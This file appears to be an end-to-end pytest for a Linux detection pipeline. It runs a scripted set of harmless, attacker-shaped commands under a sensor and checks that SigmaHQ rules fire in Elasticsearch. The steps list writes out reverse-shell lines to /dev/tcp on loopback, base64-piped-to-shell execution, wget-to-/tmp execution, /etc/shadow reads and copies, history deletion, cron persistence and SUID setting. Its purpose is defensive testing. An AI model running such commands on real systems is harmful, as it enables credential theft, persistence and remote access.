"""``sigstream sensor`` on this machine, end to end: the sensor (as root) sees a script of
harmless commands shaped like Linux attacker tradecraft, ships through the real gateway to
Kafka, the streaming detect job runs SigmaHQ's unmodified Linux rules, and each command's
rule has a finding in Elasticsearch within seconds.

Skips when not root, when the kernel's process-events connector is unavailable (under
``CI=true`` both are failures) or when the SigmaHQ data is absent.
"""

from __future__ import annotations

import http.server
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from elasticsearch import Elasticsearch

from common.settings import get_settings
from detections.compiler.plan import load_plan
from detections.health.finding_docs import HEALTH_RULES
from detections.health.query import start as start_health
from detections.health.state import HealthConfig
from detections.stream.job import start
from ingest.gateway.credentials import CredentialStore
from ingest.gateway.server import GatewayServer, TlsFiles, free_port, kafka_app
from ingest.gateway.tls import generate_self_signed
from ingest.sensor import procconn
from tests.conftest import REPO_ROOT, SUMMARY_LINES, shared_path
from tests.e2e.harness import job_config

pytestmark = [pytest.mark.e2e, pytest.mark.integration]

CLI = (sys.executable, "-c", "from sigstream.cli import app; app()")
#: Seconds a command's finding may take to appear in Elasticsearch.
DEADLINE_S = float(os.environ.get("SIGSTREAM_SENSOR_E2E_DEADLINE_S", "30"))
#: Seconds the pipeline may take to start (the sensor's first events processed by the job).
STARTUP_S = float(os.environ.get("SIGSTREAM_SENSOR_E2E_STARTUP_S", "300"))


@dataclass(frozen=True)
class Step:
    what: str
    command: str  # run as ``bash -c COMMAND`` (its command line is "bash -c ...")
    rules: tuple[str, ...]  # SigmaHQ rule ids (rules/linux) that must fire


def steps(tmp: str, url: str, cron: str, home: str) -> list[Step]:
    """The attack script. ``tmp``: a fresh /tmp prefix; ``url``: a loopback HTTP server
    serving a copy of ``sleep`` as ``payload``; ``cron``: a file to create in /etc/cron.d;
    ``home``: a fake home with a ``.bash_history``."""
    return [
        Step(
            "base64-decoded shell piped to sh",
            "echo ZWNobyBzaWdzdHJlYW0tZTJlID4vZGV2L251bGwK | base64 -d | sh",
            (
                "ba592c6d-6888-43c3-b8c6-689b8fe47337",  # Linux Base64 Encoded Pipe to Shell
                "880973f3-9708-491c-a77b-2a35a1921158",  # Linux Shell Pipe to Shell
                "e2072cab-8c9a-459b-b63c-40ae79e27031",  # Decode Base64 Encoded Text
            ),
        ),
        Step(
            "download to /tmp with wget from a shell",
            f"sh -c '/usr/bin/wget -q -O {tmp}payload {url}/payload; true'",
            (
                "a2d9e2f3-0f43-4c7a-bcd9-9acfc0d723aa",  # Curl/Wget Exec From Tmp Folder
                "35a05c60-9012-49b6-a11f-6bab741c9f74",  # Wget Creating Files in Tmp Dirs
            ),
        ),
        Step(
            "make the download executable",
            f"chmod +x {tmp}payload",
            ("6419afd1-3742-47a5-a7e6-b50386cd15f8",),  # Chmod Suspicious Directory
        ),
        Step(
            "execute it from /tmp",
            f"{tmp}payload 0.3",
            ("312b42b1-bded-4441-8b58-163a3af58775",),  # Execution From Tmp Folder
        ),
        Step(
            "cron persistence (a comment line, removed after)",
            f"echo '# sigstream e2e: harmless' > {cron}",
            ("6c4e2f43-d94d-4ead-b64d-97e53fa2bd05",),  # Persistence Via Cron Files
        ),
        Step(
            "clear the shell history",
            f"rm -f {home}/.bash_history",
            ("1182f3b3-e716-4efa-99ab-d2685d04360f",),  # History File Deletion
        ),
        Step(
            "read /etc/shadow with tail",
            "tail -n 0 /etc/shadow",
            ("b45e3d6f-42c6-47d8-a478-df6bd6cf534c",),  # Local System Accounts Discovery
        ),
        Step(
            "copy /etc/shadow to /tmp",
            f"cp /etc/shadow {tmp}shadow",
            ("fa4aaed5-4fe0-498d-bbc0-08e3346387ba",),  # Copy Passwd Or Shadow From TMP Path
        ),
        Step(
            "reverse shell under setsid, to a closed loopback port",
            "setsid bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1; sleep 0.2' 2>/dev/null",
            ("6104e693-a7d6-4891-86cb-49a258523559",),  # Interactive Bash Suspicious Children
        ),
        Step(
            "reverse shell under nohup",
            "nohup bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' 2>/dev/null",
            ("e4ffe466-6ff8-48d4-94bd-e32d1a6061e2",),  # Nohup Execution
        ),
        Step(
            "SUID binaries search",
            "find /usr/bin -perm -4000 -type f",
            (
                "8344c0e5-5783-47cc-9cf9-a0f7fd03e6cf",  # Potential Discovery Activity Via Find
                "0cf7a157-8879-41a2-8f55-388dd23746b7",  # Linux Recon Indicators
            ),
        ),
        Step(
            "set the SUID bit on a root-owned copy",
            f"cp /usr/bin/true {tmp}suid && chown root {tmp}suid && chmod u+s {tmp}suid",
            ("c21c4eaa-ba2e-419a-92b2-8371703cbe21",),  # Setuid and Setgid
        ),
        Step(
            "named pipe in /tmp (reverse-shell plumbing)",
            f"mkfifo {tmp}fifo",
            ("999c3b12-0a8c-40b6-8e13-dd7d62b75c7a",),  # Potentially Suspicious Named Pipe
        ),
        Step(
            "python pty upgrade",
            f"{sys.executable} -c 'import pty; pty.spawn(\"/bin/true\")'",
            ("c4042d54-110d-45dd-a0e1-05c47822c937",),  # Python Spawning Pretty TTY
        ),
        Step(
            "python base64-encoded execution",
            f"{sys.executable} -c 'import base64; exec(base64.b64decode(\"cHJpbnQoMSk=\"))'",
            ("55e862a8-dd9c-4651-807a-f21fcad56716",),  # Python Base64 Encoded Execution
        ),
        Step(
            "read the shell history",
            f"cat {home}/.zsh_history",
            ("d7821ff1-4527-4e33-9f84-d0d57fa2fb66",),  # Print History File Contents
        ),
    ]


def _require_sensor_host() -> None:
    """Skip (or, under CI=true, fail) where the sensor cannot run."""
    ci = os.environ.get("CI", "").lower() == "true"
    why = None
    if os.geteuid() != 0:
        why = "the sensor needs root (process-events connector, fanotify)"
    elif (reason := procconn.available()) is not None:
        why = reason
    if why:
        if ci:
            pytest.fail(f"CI=true but the sensor cannot run here: {why}")
        pytest.skip(why)


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *_: Any) -> None:
        pass


@pytest.fixture
def payload_server(tmp_path: Path) -> Iterator[str]:
    """A loopback HTTP server serving a copy of ``sleep`` as ``/payload``."""
    root = tmp_path / "www"
    root.mkdir()
    shutil.copy(shutil.which("sleep") or "/bin/sleep", root / "payload")

    def handler(*args: Any) -> _Quiet:
        return _Quiet(*args, directory=str(root))

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def _findings(es: Elasticsearch, index: str, sensor: str, cwd: str, unique: str) -> set[str]:
    """Rule ids with a finding on one of the script's own events: processes run in the
    script's directory (``CurrentDirectory``), files named with the run's ``unique``. The
    sensor sees the whole host; another process matching a rule does not count."""
    es.indices.refresh(index=index)
    resp = es.search(
        index=index,
        size=5000,
        query={"term": {"sigstream.sensor_id": sensor}},
        source=["rule.id", "sigstream.event.CurrentDirectory", "sigstream.event.TargetFilename"],
    )
    out = set()
    for hit in resp["hits"]["hits"]:
        event = hit["_source"].get("sigstream", {}).get("event", {})
        if event.get("CurrentDirectory") == cwd or unique in event.get("TargetFilename", ""):
            out.add(hit["_source"]["rule"]["id"])
    return out


def _health(es: Elasticsearch, index: str, sensor: str) -> dict[str, dict[str, Any]]:
    """The sensor's health findings: kind -> the finding's details."""
    kinds = {r.id: kind for kind, r in HEALTH_RULES.items()}
    es.indices.refresh(index=index)
    resp = es.search(
        index=index,
        size=100,
        query={
            "bool": {
                "filter": [
                    {"term": {"sigstream.sensor_id": sensor}},
                    {"terms": {"rule.id": list(kinds)}},
                ]
            }
        },
    )
    return {
        kinds[h["_source"]["rule"]["id"]]: h["_source"]["sigstream"]["event"]
        for h in resp["hits"]["hits"]
    }


def test_attack_script_fires_upstream_sigmahq_linux_rules(
    services: Any, spark: Any, tmp_path: Path, unique: str, payload_server: str
) -> None:
    _require_sensor_host()
    rules_dir = shared_path("sigma", "rules", "linux")
    plan = load_plan([rules_dir])
    planned = {str(r.rule.id) for r in plan.rules}
    tmp = f"/tmp/sigstream-e2e-{unique}-"
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bash_history").write_text("ls\n")
    (home / ".zsh_history").write_text(": 1:0;ls\n")
    cron_dir = Path("/etc/cron.d")
    made_cron_dir = not cron_dir.exists()
    cron_dir.mkdir(parents=True, exist_ok=True)
    cron = cron_dir / f"sigstream-e2e-{unique}"
    script = steps(tmp, payload_server, str(cron), str(home))
    missing = {r for s in script for r in s.rules} - planned
    assert not missing, f"expected rules not in the plan of {rules_dir}: {missing}"

    s = get_settings()
    tls = TlsFiles(tmp_path / "tls" / "cert.pem", tmp_path / "tls" / "key.pem")
    generate_self_signed(tls.cert, tls.key, ["127.0.0.1"])
    store = CredentialStore(tmp_path / "creds.json")
    sensor_id = f"e2e-{unique}"
    _, token = store.enroll("acme", sensor_id)
    (tmp_path / "sensor.token").write_text(token)
    cfg = job_config(
        tmp_path, unique, available_now=False, trigger_seconds=0.5, health_trigger_seconds=2.0
    )
    gateway = GatewayServer(
        lambda: kafka_app(store.path, s.kafka_bootstrap, cfg.events_topic, cfg.dlq_topic),
        "127.0.0.1",
        free_port(),
        tls,
    )
    config = tmp_path / "sensor.yml"
    batches: list[int] = []
    query = None
    health = None
    sensor = None
    tamper: dict[str, dict[str, Any]] = {}
    es = Elasticsearch(list(s.es_hosts), request_timeout=30)
    try:
        gateway.start()
        config.write_text(
            f"sensor_id: {sensor_id}\n"
            f"gateway: {{url: '{gateway.url}', token_file: '{tmp_path / 'sensor.token'}', "
            f"ca: '{tls.cert}'}}\n"
            f"spool_dir: '{tmp_path / 'spool'}'\n"
            "heartbeat_interval_s: 5\n"
            f"sources: {{file: {{paths: [/tmp, /etc/cron.d]}}, network: {{enabled: false}}}}\n"
        )
        query = start(spark, plan, cfg, on_batch=lambda st: batches.append(st.events))
        health = start_health(
            spark,
            cfg,
            HealthConfig(default_interval_s=60, silence_multiplier=3, gap_grace_s=5),
            f"test-{unique}-sensors",
            checkpoint=tmp_path / "health-ckpt",
        )
        env = {**os.environ, "PYTHONPATH": str(REPO_ROOT)}
        sensor = subprocess.Popen(
            [*CLI, "sensor", "run", "--config", str(config)],
            env=env,
            stdout=subprocess.DEVNULL,
            stderr=open(tmp_path / "sensor.log", "wb"),  # noqa: SIM115
        )
        # The first heartbeat through the whole pipeline: Spark's first batches are slow,
        # very slow on a loaded machine.
        deadline = time.monotonic() + STARTUP_S
        while not any(batches):
            assert sensor.poll() is None, (tmp_path / "sensor.log").read_text()
            assert time.monotonic() < deadline, "the sensor's first events never reached the job"
            time.sleep(0.5)

        wanted = {r for st in script for r in st.rules}
        seen: dict[str, float] = {}
        done = threading.Event()

        def poll() -> None:  # findings as they appear, for the latency of each
            while not done.is_set() and not wanted <= set(seen):
                now = time.time()
                for rule in _findings(es, cfg.findings_index, sensor_id, str(tmp_path), unique):
                    seen.setdefault(rule, now)
                done.wait(0.25)

        poller = threading.Thread(target=poll, daemon=True)
        poller.start()
        started: dict[str, float] = {}
        for step in script:
            started[step.what] = time.time()
            subprocess.run(
                ["bash", "-c", step.command],
                cwd=tmp_path,
                timeout=30,
                check=False,
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
            )
            time.sleep(0.2)
        poller.join(timeout=DEADLINE_S)
        done.set()
        poller.join(timeout=10)

        # Tamper evidence: a configuration change (reloaded on SIGHUP) changes the
        # heartbeat's config hash; a clean stop is named as such once the sensor is silent.
        config.write_text(
            config.read_text().replace("heartbeat_interval_s: 5", "heartbeat_interval_s: 4")
        )
        sensor.send_signal(signal.SIGHUP)
        time.sleep(6)  # the next heartbeat carries the new hash
        sensor.send_signal(signal.SIGTERM)
        sensor.wait(timeout=30)
        deadline = time.monotonic() + 90  # silent after 3 x 4 s, judged on a 2 s trigger
        while time.monotonic() < deadline and not {"tampered", "stopped"} <= set(tamper):
            tamper = _health(es, cfg.findings_index, sensor_id)
            time.sleep(1)
        assert "silent" not in tamper, tamper  # a clean stop is not "killed or cut off"
        # Started again, then killed (SIGKILL: no last heartbeat): silent, "killed".
        sensor = subprocess.Popen(
            [*CLI, "sensor", "run", "--config", str(config)],
            env=env,
            stdout=subprocess.DEVNULL,
            stderr=open(tmp_path / "sensor-2.log", "wb"),  # noqa: SIM115
        )
        time.sleep(8)  # heard again (a heartbeat at start)
        sensor.kill()
        sensor.wait(timeout=30)
        deadline = time.monotonic() + 90
        while time.monotonic() < deadline and "silent" not in tamper:
            tamper = _health(es, cfg.findings_index, sensor_id)
            time.sleep(1)
    finally:
        # The host's files first: whatever else fails, no cron entry or shadow copy stays.
        cron.unlink(missing_ok=True)
        if made_cron_dir:
            cron_dir.rmdir()
        for leftover in Path("/tmp").glob(f"sigstream-e2e-{unique}-*"):
            leftover.unlink(missing_ok=True)
        if sensor is not None and sensor.poll() is None:
            sensor.send_signal(signal.SIGTERM)
            try:
                sensor.wait(timeout=30)
            except subprocess.TimeoutExpired:
                sensor.kill()
                sensor.wait(timeout=30)
        if health is not None:
            health.stop()
        if query is not None:
            query.stop()
        gateway.stop()
        es.close()

    rows = []
    for step in script:
        for rule in step.rules:
            fired = rule in seen
            latency = f"{seen[rule] - started[step.what]:.1f}s" if fired else "-"
            rows.append(f"{step.what:<52} {rule}  {'fired' if fired else 'MISSED':<6} {latency}")
    table = "\n".join(["sensor attack script: command -> SigmaHQ rule -> fired, latency", *rows])
    print(table)
    SUMMARY_LINES.extend(table.splitlines())
    not_fired = [r for r in rows if "MISSED" in r]
    assert not not_fired, "\n".join(not_fired) + "\n" + (tmp_path / "sensor.log").read_text()
    print("sensor health:", {k: v.get("cause") or v.get("changed") for k, v in tamper.items()})
    assert tamper["tampered"]["changed"] == "configuration"
    assert tamper["stopped"]["cause"] == "stopped cleanly (SIGTERM)"
    assert tamper["silent"]["cause"] == "went silent without stopping: killed or cut off"
    assert "source_lost" not in tamper
